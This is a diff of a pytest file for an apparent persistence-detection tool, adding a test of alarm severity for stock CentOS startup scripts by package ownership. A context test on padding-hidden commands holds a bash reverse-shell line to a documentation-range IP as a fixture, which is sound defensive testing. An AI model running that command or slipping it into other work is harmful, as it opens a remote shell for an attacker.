@@ -140,6 +140,25 @@ def test_what_a_package_brought_is_said_without_alarm_and_what_was_changed_is_no
     assert changed == {"/etc/init/block.conf": "high", "/etc/skel/.bashrc": "info", "/home/a/.bashrc": "high"}
 
 
+@pytest.mark.parametrize("owner", ["package", "nobody"])
+def test_stock_scripts_of_a_part_of_a_system_raise_no_alarm_and_those_of_a_whole_one_do(owner: str) -> None:
+    """A public tree of CentOS 6 (/etc and /var) gave six alarms for its own scripts: neither programs nor digests were there."""
+    script = b"touch /dev/.in_sysinit\n"
+    builder = Builder().add("/etc/rc.d/rc.sysinit", script, mode=0o755)
+    paths = "/.\n/etc/rc.d/rc.sysinit\n" if owner == "package" else "/.\n/etc/other\n"
+    builder.add("/var/lib/dpkg/status", b"Package: i\nStatus: install ok installed\nVersion: 1\n")
+    builder.add("/var/lib/dpkg/info/i.list", paths.encode())
+    whole, part = (
+        builder.tree(),
+        Tree([entry for entry in builder.tree().entries if not entry.path.startswith("/usr/")]),
+    )
+    ((_, grave),) = [(item.title, item.severity) for item in persistence_rules.started(whole)]
+    (said,) = persistence_rules.started(part)
+    assert grave == "high"
+    assert said.severity == ("medium" if owner == "package" else "high")
+    assert ("neither what it brought nor when the system was installed is known" in said.detail) is (owner == "package")
+
+
 def test_padding_hides_no_command_in_a_start_file() -> None:
     """ATT&CK T1027.001: thousands of harmless lines before the one that matters."""
     shell = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
